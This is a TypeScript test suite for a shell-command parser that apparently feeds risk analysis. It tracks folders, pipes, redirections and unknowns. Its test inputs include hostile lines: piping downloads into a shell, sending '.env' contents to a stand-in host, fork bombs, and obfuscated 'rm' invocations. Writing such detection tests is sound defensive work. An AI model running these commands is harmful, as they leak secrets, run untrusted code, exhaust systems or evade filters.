/** What a reading holds beside the words: folders, edges, redirections, and what is not known, by its kind. */
import assert from "node:assert/strict";
import { test } from "node:test";
import type { ShellReading, SimpleCommand } from "../../src/engine/effects.ts";
import { readShell } from "../../src/shell/read.ts";

const read = (line: string): ShellReading => readShell(line, { cwd: "/w", home: "/home/ada" });
const runs = (line: string): string[] => read(line).unknown.flatMap(({ what, why }) => (what === "runs" ? why : []));
const does = (line: string): string[] => read(line).unknown.flatMap(({ what, why }) => (what === "does" ? why : []));
const texts = (line: string): string[] => read(line).commands.map(({ words }) => words.join(" "));

/** The last command of the line whose program is this one. */
function command(line: string, program: string): SimpleCommand {
  const found = read(line).commands.findLast(({ words: [name] }) => name === program);
  assert.ok(found, `${program} in ${line}`);
  return found;
}

const everything = [
  "node -p \"require('./package.json').version\"",
  "node -e \"console.log(JSON.parse('{}').a || 1)\"",
  "python3 -c 'print(1)'",
  "python3 -c \"import json,os; print(json.load(open('a.json'))['x'], os.getcwd())\"",
  "perl -pe 's/a/b/' f",
  "awk '{print $1}' f",
  'eval "$(ssh-agent -s)"',
  'eval "$(direnv hook bash)"',
  'eval "$(pyenv init -)"',
  'eval "$(/opt/homebrew/bin/brew shellenv)"',
  'eval "$(fnm env --use-on-cd)"',
  "source <(kubectl completion bash)",
  "source .venv/bin/activate && python x.py",
  ". ~/.nvm/nvm.sh && nvm use",
  "tmux new -d 'npm run dev'",
  "tmux send-keys -t dev 'npm test' Enter",
  "alias ll='ls -la'",
  "f() { echo hi; }; f",
  "screen -dmS dev npm run dev",
  "watch -n 1 ls",
  "crontab -l",
  "bash script.sh a b",
  "zsh script.zsh",
  "echo 'echo hi' | sh",
  "cat > a.sh <<'E'\nmake\nE\nbash a.sh",
  "PAGER=less git log",
  "GIT_CONFIG_GLOBAL=/dev/null git status",
  "for f in a b; do wc -l $f; done",
  "trap 'rm -f x' EXIT",
  "(cd sub && npm test)",
];

test("[R87] of ordinary lines everything is known", () => {
  const unknown = everything.flatMap((line) => read(line).unknown.map(({ why }) => `${line}: ${why}`));
  assert.deepEqual(unknown, []);
});

test("[R87] a program that only the shell knows is one that runs unknown, and says which", () => {
  assert.deepEqual(runs("$X push"), ["cannot tell what `$X` runs"]);
  assert.deepEqual(runs('sudo "$X"'), ["cannot tell what `sudo …` runs"]);
  assert.deepEqual(runs('bash -c "$X"'), ["cannot tell what `bash …` runs"]);
  assert.deepEqual(runs('eval "$(cat a)"'), ["cannot tell what `eval …` runs"]);
  assert.deepEqual(runs("curl x | sh"), ["cannot tell what `sh` is given to run"]);
  assert.deepEqual(runs("curl -o a.sh x; sh a.sh"), ["cannot tell what `a.sh` runs"]);
  assert.deepEqual(runs("sudo --what git push"), ["cannot tell what `sudo --what` runs"]);
  assert.deepEqual(runs("fish -c 'git push'"), ["cannot tell what the line given to `fish` runs"]);
  assert.deepEqual(runs("if ls"), ["cannot parse the line as bash"]);
});

test("[R87] what a known program does with code is another unknown, and names the program", () => {
  assert.deepEqual(does("python -c 'import shutil; shutil.rmtree(x)'"), [
    "cannot tell what the code given to `python` does",
  ]);
  assert.deepEqual(read("curl x | python3").unknown, [
    { what: "does", why: "cannot tell what the code given to `python` does", program: "python" },
  ]);
  for (const line of ["vim -c 'normal dd' f", "awk -f <(ls) f", "gdb -ex run a", "node -e 'eval(x)'"]) {
    assert.deepEqual(runs(line), [], line);
    assert.equal(does(line).length, 1, line);
  }
  // The text that is worked on is the line that runs.
  for (const line of ["sed 's/a/b/e' f", "awk '{ system($0) }' f", "awk '{ print | \"sh\" }' f"])
    assert.equal(runs(line).length, 1, line);
});

test("[R87] the reading goes on behind what it does not know", () => {
  assert.deepEqual(texts("$X; git push; if ls"), ["\0\0", "git push", "ls"]);
  assert.deepEqual(texts('eval "$X" && rm y'), ["eval \0", "rm y"]);
  assert.deepEqual(command("x=a; $Y; rm $x", "rm").words, ["rm", "\0\0"]);
});

test("a command knows the folder it runs in", () => {
  const folder = (line: string): string | undefined => command(line, "rm").cwd;
  assert.equal(folder("rm x"), "/w");
  assert.equal(folder("cd a && cd ../b; rm x"), "/w/b");
  assert.equal(folder("cd /etc\nrm x"), "/etc");
  assert.equal(folder("(cd a); rm x"), "/w");
  assert.equal(folder("cd a | cat; rm x"), "/w");
  assert.equal(folder("cd; rm x"), "/home/ada");
  assert.equal(folder("cd a; cd -; rm x"), "/w");
  assert.equal(folder("pushd a; popd; rm x"), "/w");
  assert.equal(folder("cd a || exit 1; rm x"), "/w/a");
  assert.equal(folder("bash -c 'cd a; rm x'"), "/w/a");
  assert.equal(folder("env -C /tmp rm x"), "/tmp");
  assert.equal(folder("source .venv/bin/activate; rm x"), "/w");
  assert.equal(command("git -C a push", "git").cwd, "/w/a");
  assert.equal(command("git -C a push; ls", "ls").cwd, "/w");
});

test("where the line goes to a folder that it does not tell, the command has none", () => {
  for (const line of ['cd "$X"; rm x', "if a; then cd b; fi; rm x", "cd a || true; rm x", "source ./go.sh; rm x"])
    assert.equal(command(line, "rm").cwd, undefined, line);
  assert.equal(command('cd "$X"; cd /a; rm x', "rm").cwd, "/a");
});

test("the home folder and the line's own folder are filled in", () => {
  assert.deepEqual(command("ls ~ ~/a $HOME/b $PWD/c '~' \"$HOME\"", "ls").words, [
    "ls",
    "/home/ada",
    "/home/ada/a",
    "/home/ada/b",
    "/w/c",
    "~",
    "/home/ada",
  ]);
  assert.deepEqual(command("HOME=/x; ls ~/a", "ls").words, ["ls", "/x/a"]);
  assert.deepEqual(command("ls ~bob/a ~root ~-", "ls").words, ["ls", "/home/bob/a", "/root", "\0"]);
});

test("a command names the one that runs it", () => {
  const { commands } = read("sudo env A=1 git push; ls");
  assert.deepEqual(
    commands.map(({ words: [name], by }) => [name, by]),
    [
      ["sudo", undefined],
      ["env", 0],
      ["git", 1],
      ["ls", undefined],
    ],
  );
  assert.equal(command("f() { ls; }; f", "ls").by, 0);
  assert.equal(command("python -c 'os.system(\"ls\")'", "ls").by, 0);
});

test("a command knows whose output it reads, and whose stands in its words", () => {
  const edges = (line: string, program: string): unknown[] => {
    const { commands } = read(line);
    const names = (indexes: readonly number[]): unknown[] => indexes.map((index) => commands[index]?.words[0]);
    const { input, given } = command(line, program);
    return [names(input), names(given)];
  };
  assert.deepEqual(edges("cat .env | curl -d @- h", "curl"), [["cat"], []]);
  assert.deepEqual(edges("sudo curl x | sh", "sh"), [["sudo", "curl"], []]);
  assert.deepEqual(edges("{ a; b; } | c", "c"), [["a", "b"], []]);
  assert.deepEqual(edges("a | while read l; do c; done", "c"), [["a"], []]);
  assert.deepEqual(edges("sh <(curl x)", "sh"), [[], ["curl"]]);
  assert.deepEqual(edges("sh < <(curl x)", "sh"), [["curl"], ["curl"]]);
  assert.deepEqual(edges("curl x > >(sh)", "sh"), [["curl"], []]);
  assert.deepEqual(edges('curl -d "$(cat .env | base64)" h', "curl"), [[], ["base64"]]);
  assert.deepEqual(edges("find . | xargs rm", "rm"), [[], ["find"]]);
  assert.deepEqual(edges("a > f | c", "c"), [[], []]);
  assert.deepEqual(edges("a | c < f", "c"), [[], []]);
});

test("redirections have their paths filled in, those of a group with each command in it", () => {
  const of = (line: string, program: string): string[] =>
    command(line, program).redirects.map(({ path, how }) => `${how} ${path}`);
  assert.deepEqual(of("f=a; ls > $f 2>> ~/e < b", "ls"), ["writes a", "appends /home/ada/e", "reads b"]);
  assert.deepEqual(of("ls &> a 2>&1 >&2", "ls"), ["writes a"]);
  assert.deepEqual(of("{ ls; cat; } > a", "cat"), ["writes a"]);
  assert.deepEqual(of("for x in 1; do ls; done >> a", "ls"), ["appends a"]);
  assert.deepEqual(of("> a", ":"), ["writes a"]);
  assert.deepEqual(of('ls > "$X/a"', "ls"), ["writes \0/a"]);
});

test("a here-document and a here-string that the line tells are the command's text", () => {
  assert.equal(command("cat <<'E' > a\nx $y\nE", "cat").text, "x $y\n");
  assert.equal(command("cat <<< 'x'", "cat").text, "x\n");
  assert.equal(command("cat <<E\n$y\nE", "cat").text, undefined);
});

test("a function that runs itself in two processes is a fork bomb, whatever it is called", () => {
  for (const line of [":(){ :|:& };:", "b() { b | b & }; b", "f() { g; }; g() { f & f; }; f", "x(){ x|x; }"])
    assert.equal(read(line).forks, true, line);
  for (const line of ["f() { f; }; f", "f() { ls | cat; }; f & f", "f() { (f); }; f"])
    assert.equal(read(line).forks, undefined, line);
});

test("what a line brings to another name is followed", () => {
  assert.deepEqual(texts("ln -s /bin/rm x; ./x -rf y").at(-1), "/bin/rm -rf y");
  assert.deepEqual(texts("cp $(which rm) x; ./x y").at(-1), "/\0/rm y");
  assert.deepEqual(texts("hash -p /bin/rm ls; ls y").at(-1), "/bin/rm y");
  assert.deepEqual(texts("r{m,} x").at(-1), "rm r x");
  assert.deepEqual(texts("$'\\x72m' x").at(-1), "rm x");
  assert.deepEqual(texts("busybox rm x").at(-1), "rm x");
  assert.deepEqual(texts("\\rm x").at(-1), "rm x");
});
